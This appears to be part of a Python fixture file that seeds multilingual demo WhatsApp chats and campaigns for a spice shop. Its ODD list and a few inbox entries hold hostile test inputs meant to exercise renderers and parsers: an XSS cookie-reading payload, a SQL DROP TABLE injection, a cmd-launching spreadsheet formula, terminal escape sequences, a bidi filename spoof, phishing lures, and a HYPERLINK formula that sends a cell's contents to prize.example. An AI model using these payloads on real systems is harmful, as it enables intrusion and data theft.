        ("ca", 4, (None,)),
        ("s", 5, ("बिल्कुल, वैसा ही करेंगे 👍",)),
    ),
    (
        ("c", 0, ("दुकान कब तक खुली है?", "आज दुकान पर आ सकते हैं?")),
        ("s", 5, ("जी आइए, हम शाम तक यहीं हैं।", "हाँ जी, ज़रूर आइए 🙏")),
        ("c", 3, ("ठीक है, आते हैं", "अच्छा")),
    ),
    (
        ("c", 0, ("{item} में मिलावट तो नहीं है ना?", "इसमें रंग तो नहीं डालते?")),
        ("s", 7, ("बिल्कुल नहीं {name} जी, हम खुद पीसते हैं। रिपोर्ट भेज रही हूँ:",)),
        ("sd", 1, ("लैब रिपोर्ट.pdf",)),
        ("c^", 9, ("तसल्ली हो गई, धन्यवाद", "बढ़िया। {qty} पैकेट लिख लीजिए")),
    ),
)

MARATHI: tuple[Script, ...] = (
    (
        ("c", 0, ("नमस्कार, {item} आहे का?", "{item} ताजा आला का?", "{item} कसा दिला?")),
        ("s", 5, ("नमस्कार {name}, हो, आजच आला. {size} ला {price}.", "हो आहे. {price} ला {size} 🙂")),
        ("c", 3, ("{qty} पाकिटे पाठवा, {city}", "बरं, {qty} द्या")),
        ("s^", 4, ("एकूण {total}, डिलिव्हरी {ship}. पाठवू का?",)),
        ("c^", 2, ("हो चालेल", "हो, पैसे पाठवले")),
        ("t", 1, (ORDER_MR,)),
        ("t", 1250, (SHIPPED,)),
        ("t", 2000, (DELIVERED,)),
        ("c", 100, ("मिळाले, धन्यवाद 🙏", "वास एकदम मस्त! आई खूश 😊", "पार्सल आले")),
    ),
    (
        ("c", 0, ("माझी ऑर्डर {order} कुठे आहे?", "{order} अजून आली नाही")),
        ("s", 8, ("बघतो आणि सांगतो, एक मिनिट.", "{name}, कुरिअरला फोन करते आहे.")),
        ("s", 11, ("उद्या {city} ला पोहोचेल. ट्रॅकिंग {awb}",)),
        ("c^", 4, ("ठीक आहे", "बरं, धन्यवाद")),
        ("t", 1300, (DELIVERED,)),
    ),
    (
        ("c", 0, ("बरणी फुटून आली 😟", "पाकीट फाटले होते")),
        ("ci", 1, (None, "हे बघा")),
        ("s^", 6, ("अरेरे, माफ करा {name}! नवीन आजच पाठवतो, पैसे लागणार नाहीत.",)),
        ("c", 5, ("खूप धन्यवाद", "लगेच उत्तर दिलंत, छान वाटलं")),
        ("t", 280, (SHIPPED,)),
    ),
    (
        ("ca", 0, (None,)),
        ("s^", 8, ("तुमचा निरोप ऐकला. {item} बाजूला ठेवते.",)),
        ("c", 3, ("धन्यवाद 🙏🏽", "बरं झालं")),
    ),
    (
        ("c", 0, ("पुरणपोळीला किती वेलची घालायची?", "आमटीसाठी कोणता मसाला चांगला?")),
        ("s", 9, ("चार माणसांना पाव चमचा पुरे 🙂", "गोडा मसाला, आणि थोडा गूळ विसरू नका!")),
        ("ci", 1500, (None, "झाली बघा!")),
        ("s^", 15, ("वा! मस्त दिसते आहे 😋",)),
    ),
)

TAMIL: tuple[Script, ...] = (
    (
        ("c", 0, ("வணக்கம், {item} இருக்கிறதா?", "{item} விலை என்ன?")),
        ("s", 9, ("Vanakkam {name}! Yes, {price} for {size}.", "வணக்கம் {name}, இருக்கிறது. {size} {price}.")),
        ("c", 4, ("{qty} பாக்கெட் அனுப்புங்கள்", "சரி, {qty} வேண்டும்")),
        ("t", 6, (ORDER,)),
        ("t", 1400, (SHIPPED,)),
        ("t", 2900, (DELIVERED,)),
        ("c", 80, ("கிடைத்தது, நன்றி 🙏", "வாசனை அருமை!")),
    ),
    (
        ("c", 0, ("{order} எப்போது வரும்?",)),
        ("s", 11, ("நாளை வந்துவிடும். Tracking: {awb}", "Tomorrow in {city}, {name}. Tracking {awb}")),
        ("c^", 6, ("சரி, நன்றி", "👍🏾")),
    ),
    (
        ("ca", 0, (None,)),
        ("s^", 14, ("நன்றி {name}, குறித்துக்கொண்டோம்.",)),
        ("c", 5, ("மிக்க நன்றி",)),
    ),
    (
        ("c", 0, ("பார்சல் உடைந்து வந்தது 😞",)),
        ("ci", 1, (None,)),
        ("s^", 8, ("மன்னிக்கவும் {name}! புதியது இன்றே அனுப்புகிறோம்.",)),
        ("c", 4, ("நன்றி!",)),
        ("t", 300, (SHIPPED,)),
    ),
)

ARABIC: tuple[Script, ...] = (
    (
        ("c", 0, ("السلام عليكم، هل {item} متوفر؟", "مرحبا، كم سعر {item}؟")),
        ("s", 8, ("وعليكم السلام {name}، نعم متوفر. {size} بسعر {price}.", "أهلاً {name}، {price} لكل {size}.")),
        ("c", 5, ("أريد {qty} من فضلك", "تمام، {qty} إلى {city}")),
        ("s^", 6, ("المجموع {total} مع التوصيل ({ship}). هل أؤكد الطلب؟",)),
        ("c^", 3, ("نعم، شكراً", "أكيد 👍🏼")),
        ("t", 1, (ORDER,)),
        ("t", 1300, (SHIPPED,)),
        ("t", 5200, (DELIVERED,)),
        ("c", 150, ("وصل الطلب، الرائحة رائعة 🌹", "وصلت، شكراً جزيلاً")),
    ),
    (
        ("c", 0, ("أين طلبي {order}؟", "متى يصل الطلب {order}؟")),
        ("s", 10, ("لحظة من فضلك {name}، أسأل شركة الشحن.",)),
        ("s", 15, ("وصل إلى {city} وسيُسلَّم غداً. رقم التتبع {awb}",)),
        ("c^", 5, ("شكراً لكم", "ممتاز 🙏")),
    ),
    (
        ("ca", 0, (None,)),
        ("s^", 12, ("سمعت الرسالة الصوتية، سنجهز {item} اليوم إن شاء الله.",)),
        ("ca", 4, (None,)),
        ("s", 7, ("تم ✅",)),
    ),
    (
        ("c", 0, ("وصلت العلبة مكسورة 😔",)),
        ("ci", 1, (None, "هذه الصورة")),
        ("s^", 9, ("نعتذر جداً {name}! سنرسل بديلاً اليوم مجاناً.",)),
        ("c", 6, ("شكراً على سرعة الرد", "الله يعطيكم العافية")),
    ),
)

HEBREW: tuple[Script, ...] = (
    (
        ("c", 0, ("שלום, יש לכם {item}?", "היי, כמה עולה {item}?")),
        ("s", 9, ("Shalom {name}! {size} is {price}.", "שלום {name}, כן. {size} ב־{price}.")),
        ("c", 6, ("מעולה, {qty} בבקשה", "אקח {qty}, משלוח ל{city}")),
        ("t", 5, (ORDER,)),
        ("t", 1500, (SHIPPED,)),
        ("t", 6400, (DELIVERED,)),
        ("c", 90, ("הגיע, תודה רבה!", "הכול הגיע. ריח מדהים 😍")),
    ),
    (
        ("c", 0, ("מתי תגיע ההזמנה {order}?",)),
        ("s", 13, ("בודקים, {name}. מספר מעקב: {awb}", "Customs released it today, {name}: {awb}")),
        ("c^", 4, ("תודה", "סבבה 👌🏻")),
    ),
    (
        ("ca", 0, (None,)),
        ("s^", 15, ("Thanks {name}! Could you write it, please? Our Hebrew is better in writing 🙂",)),
        ("c", 6, ("😂 בטח. אני צריך עוד {item}",)),
        ("s", 8, ("בשמחה! {price}",)),
    ),
)

CHINESE: tuple[Script, ...] = (
    (
        ("c", 0, ("你好，请问{item}有货吗？", "您好，{item}多少钱？")),
        ("s", 8, ("您好{name}，有货。{size} {price}。", "有的，{size}是{price}，本周新磨。")),
        ("c", 4, ("我要{qty}份，寄到{city}", "好的，来{qty}包")),
        ("s^", 6, ("一共{total}，运费{ship}。确认下单吗？",)),
        ("c^", 2, ("确认，谢谢", "可以👌🏻")),
        ("t", 1, (ORDER,)),
        ("t", 1350, (SHIPPED,)),
        ("t", 6100, (DELIVERED,)),
        ("c", 130, ("收到了，很香！", "包裹到了，包装很好，谢谢🙏🏻")),
    ),
    (
        ("c", 0, ("订单{order}到哪里了？",)),
        ("s", 12, ("{name}您好，已到{city}海关，运单号{awb}。",)),
        ("c^", 5, ("好的，谢谢", "明白了")),
    ),
    (
        ("c", 0, ("包装破了😟",)),
        ("ci", 1, (None, "请看照片")),
        ("s^", 10, ("非常抱歉，{name}！今天给您免费补寄一份。",)),
        ("c", 5, ("服务真好，谢谢", "太好了")),
    ),
    (
        ("c", 0, ("做红烧肉可以放{item}吗？",)),
        ("s", 16, ("可以的，一点点就够 🙂",)),
        ("ci", 1300, ("成品！", None)),
        ("s^", 25, ("看起来真好吃 😋",)),
    ),
)

JAPANESE: tuple[Script, ...] = (
    (
        ("c", 0, ("こんにちは。{item}の在庫はありますか？", "はじめまして。{item}はおいくらですか？")),
        (
            "s",
            9,
            ("{name}様、はい、ございます。{size}で{price}です。", "こんにちは、{name}様。{size} {price}でございます。"),
        ),
        ("c", 5, ("{qty}つお願いします", "では{qty}袋ください。{city}までお願いします。")),
        ("s^", 6, ("合計{total}、送料は{ship}です。ご注文を確定してよろしいですか？",)),
        ("c^", 3, ("はい、お願いします🙇‍♀️", "お願いします")),
        ("t", 1, (ORDER,)),
        ("t", 1300, (SHIPPED,)),
        ("t", 6800, (DELIVERED,)),
        ("c", 110, ("届きました。とても良い香りです😊", "無事に受け取りました。ありがとうございます。")),
    ),
    (
        ("c", 0, ("注文{order}はいつ届きますか？",)),
        ("s", 11, ("お調べします。少々お待ちください。",)),
        ("s", 13, ("明日{city}に到着予定です。追跡番号：{awb}",)),
        ("c^", 4, ("わかりました。ありがとうございます", "了解です👍")),
    ),
    (
        ("c", 0, ("瓶が割れていました😢",)),
        ("ci", 1, (None, "写真です")),
        ("s^", 8, ("大変申し訳ございません。本日、無料で新しいものをお送りします。",)),
        ("c", 6, ("ご丁寧にありがとうございます", "助かります🙏")),
        ("t", 320, (SHIPPED,)),
    ),
    (
        ("c", 0, ("{item}を使ったおすすめの料理はありますか？",)),
        ("s", 14, ("チキンカレーはいかがでしょうか。最後にひとつまみ入れてください。",)),
        ("ci", 1600, ("作ってみました！🍛",)),
        ("s^", 18, ("素晴らしいです👏",)),
    ),
)

SPANISH: tuple[Script, ...] = (
    (
        ("c", 0, ("Hola, ¿tienen {item}?", "Buenas, ¿cuánto cuesta el {item}?")),
        ("s", 8, ("¡Hola {name}! Sí: {price} los {size}.", "Hola {name}, claro. {size}, {price}.")),
        ("c", 4, ("Perfecto, {qty} para {city} por favor", "Me llevo {qty} 😊")),
        ("s^", 5, ("Son {total}, envío {ship}. ¿Lo confirmo?",)),
        ("c^", 2, ("Sí, gracias", "¡Dale!")),
        ("t", 1, (ORDER_ES,)),
        ("t", 1300, (SHIPPED,)),
        ("t", 6500, (DELIVERED,)),
        ("c", 140, ("¡Ya llegó! Huele increíble", "Recibido, mil gracias 🙌🏽")),
    ),
    (
        ("c", 0, ("¿Dónde está mi pedido {order}?", "Hola, el pedido {order} no ha llegado todavía")),
        ("s", 11, ("Un momento {name}, lo reviso con la mensajería.",)),
        ("s", 12, ("Está en la aduana de {city}; sale mañana. Guía {awb}",)),
        ("c^", 6, ("Vale, gracias", "Ok, espero entonces 🤞🏼")),
        ("t", 1500, (DELIVERED,)),
    ),
    (
        ("c", 0, ("El frasco llegó roto 😢",)),
        ("ci", 1, (None, "Miren la foto")),
        ("s^", 7, ("¡Qué pena, {name}! Te mandamos otro hoy, sin costo.",)),
        ("c", 5, ("Muchísimas gracias", "Así da gusto, gracias")),
    ),
    (
        ("ca", 0, (None,)),
        ("s^", 12, ("Gracias por el audio, {name}. Te aparto el {item}.",)),
        ("c", 4, ("¡Genial!", "👏🏽👏🏽")),
    ),
    (
        ("c", 0, ("¿El {item} pica mucho? Es para mis hijos",)),
        ("s", 9, ("Casi nada, {name}. Media cucharadita y listo 🙂",)),
        ("c", 900, ("Les encantó 👨‍👩‍👧‍👦",)),
        ("s^", 40, ("¡Qué alegría!",)),
    ),
)

PORTUGUESE: tuple[Script, ...] = (
    (
        ("c", 0, ("Olá! Têm {item}?", "Oi, quanto custa {item}?")),
        ("s", 8, ("Olá {name}! Sim, {size} por {price}.", "Oi {name}, temos sim: {price}.")),
        ("c", 4, ("Quero {qty}, por favor, para {city}", "Ótimo, {qty} então")),
        ("s^", 5, ("São {total}, envio {ship}. Posso confirmar?",)),
        ("c^", 2, ("Pode sim, obrigada", "Confirma 👍🏽")),
        ("t", 1, (ORDER,)),
        ("t", 1400, (SHIPPED,)),
        ("t", 6300, (DELIVERED,)),
        ("c", 120, ("Chegou! Que cheiro maravilhoso", "Recebi tudo certinho, obrigado 🙏🏼")),
    ),
    (
        ("c", 0, ("Onde está a encomenda {order}?",)),
        ("s", 12, ("{name}, chegou a {city} e sai amanhã. Rastreio: {awb}",)),
        ("c^", 5, ("Obrigado!", "Tá bom, valeu")),
    ),
    (
        ("c", 0, ("A caixa chegou amassada 😕",)),
        ("ci", 1, (None, "olha só")),
        ("s^", 9, ("Sentimos muito, {name}! Mandamos outra hoje, sem custo.",)),
        ("c", 4, ("Muito obrigada ❤️", "Nota dez!")),
        ("t", 310, (SHIPPED,)),
    ),
    (
        ("ca", 0, (None,)),
        ("s^", 13, ("Ouvi o áudio, {name}. Está anotado: {qty} × {item}.",)),
        ("c", 3, ("Isso mesmo", "😘")),
    ),
)

SCRIPTS: dict[str, tuple[Script, ...]] = {
    "en": ENGLISH,
    "hi": HINDI,
    "mr": MARATHI,
    "ta": TAMIL,
    "ar": ARABIC,
    "he": HEBREW,
    "zh": CHINESE,
    "ja": JAPANESE,
    "es": SPANISH,
    "pt": PORTUGUESE,
}

CAMPAIGNS = (
    'Hi {name}, fresh <b>{item}</b> has arrived.<br>First come, first served: <a href="https://saunfandsons.example/new">see it</a>',
    "<b>10% off &amp; free delivery</b><br>Hi {name}, this week on everything. Code <b>SAUNF10</b>.<br><br>Reply STOP to opt out",
    'Hi {name}, our new <b>wooden spice box</b> is here 🎁<br><a href="https://saunfandsons.example/box?utm_source=wa&amp;utm_campaign=box">Have a look</a>',
    "Hi {name}, recipe of the week: <b>Meera's dal</b>, 20 minutes, one pot.<br>Reply RECIPE and we send it.",
    "<b>Only until tonight</b><br>{name}, buy two, get a packet of <i>chaat masala</i> free.<br>Terms &amp; conditions apply",
    'Hi {name}, we moved two doors down! More room &amp; better tea ☕<br><a href="https://saunfandsons.example/visit">Find us</a>',
    "<b>{item}: new harvest</b><br>Hi {name}, we drove to the farm &amp; brought back 40 kg. It won't last long.",
    'Hi {name}, what should we roast next? <a href="https://saunfandsons.example/vote?a=1&amp;b=2">Vote here</a>, it takes 10 seconds.',
    "<b>Thank you, {name}!</b><br>Saunf &amp; Sons is 30 years old this week. A small sweet is in every parcel 🍬",
    "Hi {name}, recipe of the week: <b>Rohan's masala omelette</b>.<br>Reply RECIPE and we send it.",
    '<b>Back in stock:</b> {item}<br>Hi {name}, you asked, it is here.<br><a href="https://saunfandsons.example/back">Get yours</a>',
    "Hi {name}, free delivery all over the world until Sunday 🌍<br>No code needed, it is taken off by itself.",
    "<b>Grinding day</b><br>{name}, order until noon &amp; your <b>{item}</b> is ground this very evening.",
    'Hi {name}, two minutes for us? <a href="https://saunfandsons.example/survey?lang=en&amp;src=wa">Three questions</a>, and 5% off as thanks.',
)

# What strangers and clients off the beaten track send. Terminals, spreadsheets and parsers meet these first of all.
ODD: tuple[tuple[str, str | None], ...] = (
    (
        "\x1b[2J\x1b[H\x1b[1;5;41m PRIZE \x1b[0m you are today's winner \x1b]8;;https://prize.example\x1b\\claim\x1b]8;;\x1b\\",
        None,
    ),
    ("+1+1", "Hi! Is that a mobile number? What can we do for you?"),
    ("[bold red]SALE[/bold red] [link=https://prize.example]here[/link] :smile: :boom:", None),
    (
        "\u202egnp.eciovni\u202c is attached, open it \u2066now",
        "Sorry, we don't open files from numbers we don't know.",
    ),
    (
        "1. red chilli\r\n2. cumin\r\n\t- whole\r\n\t- not ground\r\n3. saffron, if the price is right",
        "Noted! Total comes in a minute.",
    ),
    (
        "\u009b31mtest\u009b0m \u0090q\u009c \u0085 did this arrive?",
        "It came through garbled on our side. Could you type it once more?",
    ),
    (
        "<script>alert(document.cookie)</script><img src=x onerror=alert(1)>",
        "Looks like that went to the wrong window 🙂",
    ),
    ('He said "two, not three", so: 2; and don\'t forget the "extra hot" one, please', "Two it is, extra hot 👍"),
    ("call me\x00admin", None),
    ("Robert'); DROP TABLE messages;--", "We know that one 😄 How can we help?"),
    ("half\u200bkilo \u200dof\u2060 cumin\ufeff please", "Half a kilo of cumin, noted."),
    (
        "Love from Wales \U0001f3f4\U000e0067\U000e0062\U000e0077\U000e006c\U000e0073\U000e007f\U000e0041\U000e0042",
        "Love to Wales! 🏴󠁧󠁢󠁷󠁬󠁳󠁿",
    ),
    ("first line\u2028second line\u2029third\x0bfourth\x0cfifth", "Five lines, five spices?"),
    ("My notes say \\n and \\t and C:\\new\\table, ignore that", "Ignored 🙂"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", None),
    ("Z̷͇̈a̶̺͝l̴̖̈́g̸̢̕ö̵́ͅ ﷽", "Font looks spooky! How can we help?"),
)

_LONG = (
    "I have been buying spices for our family since I was a girl and I want to tell you how this order went, from the start. "
    "First the website asked me for my pin code twice, then the rider called while I was at the temple, then my grandson told "
    "him the second floor although we are on the third, and when it came at last the lid of the turmeric was loose. Still, the "
    "cardamom is the best I had in years, and your girl on the phone was kind. "
)
# WhatsApp takes no more than 4096 characters in one text.
LONGEST = (_LONG * 10)[:4096]
OTP = "<b>{code}</b> is your code for saunfandsons.example.<br>Please don't share it &amp; don't reply here."
LONG_REPLY = "Thank you for taking the time, {name} 🙏 A new jar of turmeric is on its way, and the rider has the right floor now."

CAMPAIGN_FAILURES = (
    "Message undeliverable.",
    "This message was not delivered to maintain healthy ecosystem engagement.",
    "(#131050) Unable to deliver the message. This recipient has chosen to stop receiving marketing messages.",
    "User's number is part of an experiment.",
    "This message was not delivered to maintain healthy ecosystem engagement.",
)
LATE_FAILURE = "Re-engagement message: more than 24 hours have passed since the customer last replied to this number."
MEDIA_FAILURE = "Media upload error: unable to upload the media used in the message."

# The last hours, written out: whom, and `(minutes before now, code, text)`.
TODAY: tuple[tuple[str, tuple[tuple[float, str, str | None], ...]], ...] = (
    ("Gauri", ((2.2, "c?", "Hi, is the goda masala ready? I'm near the shop 🛵"),)),
    (
        "Ana",
        (
            (
                27.1,
                "t",
                "Hi Ana, order <b>SS-24097</b> was delivered. We hope you enjoy it!<br>Questions &amp; feedback: just reply here.",
            ),
            (5.3, "c^?", "Chegou tudo! A família inteira adorou 👨‍👩‍👧‍👦🇵🇹💃🏽"),
        ),
    ),
    (
        "Priya",
        (
            (31.5, "c", "Hi, SS-24188 came just now but one jar is broken 😟"),
            (30.8, "ci", None),
            (30.6, "ci", "turmeric all over the box"),
            (24.9, "s^", "Oh no, so sorry Priya! A new jar goes out today, no charge. Please keep the rest 🙏"),
            (22.2, "c", "That was quick. It's for my sister's wedding lunch, so today would be lovely"),
            (18.4, "s", "Then Imran brings it over himself this evening 🛵"),
            (16.0, "c^", "You people are the best ❤️"),
            (9.6, "si", "Packed twice this time 😄"),
            (7.9, "c?", "😂😂 that will survive anything"),
        ),
    ),
    (
        "結衣",
        (
            (41.2, "c", "こんにちは。グリーンカルダモンの在庫はありますか？"),
            (34.0, "s", "結衣様、はい、ございます。100 gでUS$16です。"),
            (12.7, "c^?", "2袋お願いします🙇‍♀️"),
        ),
    ),
    ("Lucky Draw", ((14.3, "c~?", '=HYPERLINK("https://prize.example/?d="&A1,"Claim your $500 voucher")'),)),
    (
        "Daniel",
        (
            (53.9, "c", "hello"),
            (53.8, "bb", MENU),
            (53.1, "cb", "Track my order"),
            (53.0, "b", "Order SS-23986: handed to SwiftPost, tracking 5510482297. Expected in 1–2 days."),
            (50.4, "c", "Brilliant, cheers"),
        ),
    ),
    (
        "فاطمة",
        (
            (66.3, "ca", None),
            (57.7, "s^", "سمعت الرسالة الصوتية، سنجهز الزعفران اليوم إن شاء الله."),
            (49.2, "c", "شكراً جزيلاً 🌹"),
        ),
    ),
    ("Account", ((46.6, "c", "\x1b[31mACCOUNT BLOCKED\x1b[0m verify within 10 min \x1b]0;verify at prize.example"),)),
    (
        "Nandini",
        (
            (79.5, "c", "Can you send the GST invoice for SS-24011? My accountant is asking"),
            (72.1, "sd", "Invoice SS-24011.pdf"),
            (69.8, "c", "Got it 👍🏽 Same quantity next month"),
            (61.0, "s^", "Noted, thank you Nandini!"),
        ),
    ),
    ("Tom", ((83.4, "s!", "Hi Tom, did the cinnamon arrive in the end?"),)),
    (
        "Rekha",
        (
            (
                88.0,
                "t",
                "Hi Rekha, order <b>SS-24102</b> was delivered. We hope you enjoy it!<br>Questions &amp; feedback: just reply here.",
            ),
        ),
    ),
    (
        "Akash",
        (
            (
                88.0,
                "t",
                "Hi Akash, order <b>SS-24115</b> was delivered. We hope you enjoy it!<br>Questions &amp; feedback: just reply here.",
            ),
        ),
    ),
    (
        "रमेश",
        (
            (104.0, "c", "नमस्ते, हल्दी का रेट क्या है?"),
            (98.2, "s", "नमस्ते रमेश जी, 500 g ₹190 का है।"),
            (94.9, "c", "2 पैकेट भेज दीजिए, इंदौर"),
            (92.3, "s^", "कुल ₹440 होगा, डिलीवरी ₹60। बुक कर दूँ?"),
            (90.7, "c^", "जी, UPI कर दिया 🙏"),
            (90.1, "t", ORDER_HI.format(order="SS-24304", name="रमेश", qty=2, item="हल्दी", size="500 g", total="₹440")),
        ),
    ),
    (
        "Lucía",
        (
            (127.0, "c", "Hola, ¿el chile de Cachemira pica mucho? Es para mis hijos"),
            (118.6, "s", "Casi nada, Lucía. Media cucharadita y listo 🙂"),
            (111.3, "c", "¡Genial! Entonces me llevo 2"),
            (
                108.8,
                "t",
                ORDER_ES.format(
                    order="SS-24303", name="Lucía", qty=2, item="chile de Cachemira", size="250 g", total="US$36"
                ),
            ),
        ),
    ),
    (
        "静",
        (
            (151.4, "c", "订单SS-23871到哪里了？"),
            (142.0, "s", "静您好，已到上海海关，运单号5510379913。"),
            (139.5, "c", "好的，谢谢"),
        ),
    ),
    (
        "Grace",
        (
            (176.2, "cd~", "PO-118.pdf"),
            (161.9, "s", "Received, thank you Grace! Dispatch in three days."),
            (158.3, "c^", "Perfect. And the pepper whole this time, please"),
            (155.0, "s", "Whole it is 👍"),
        ),
    ),
    (
        "सुनीता",
        (
            (214.0, "c", "पुरणपोळीला किती वेलची घालायची?"),
            (205.5, "s", "चार माणसांना पाव चमचा पुरे 🙂"),
            (133.2, "ci", "झाली बघा!"),
            (121.7, "s^", "वा! मस्त दिसते आहे 😋"),
        ),
    ),
    (
        "Joe",
        (
            (246.0, "cv", "Is the chai supposed to foam like this?"),
            (231.8, "s", "Haha yes, that's the fresh ginger. Lower flame 🔥"),
            (229.1, "c^", "Ok good 😅 kitchen's clean again"),
        ),
    ),
    (
        "אורי",
        (
            (268.3, "c", "מתי תגיע ההזמנה SS-23744?"),
            (251.6, "s", "בודקים, אורי. מספר מעקב: 5510361120"),
            (247.4, "c", "סבבה 👌🏻"),
        ),
    ),
    (
        "நளினி",
        (
            (301.0, "c", "வணக்கம், ஏலக்காய் இருக்கிறதா?"),
            (288.5, "s", "வணக்கம் நளினி, இருக்கிறது. 100 g ₹460."),
            (283.7, "c", "சரி, 1 வேண்டும்"),
            (279.9, "t", ORDER.format(order="SS-24299", name="நளினி", qty=1, item="ஏலக்காய்", size="100 g", total="₹520")),
        ),
    ),
)
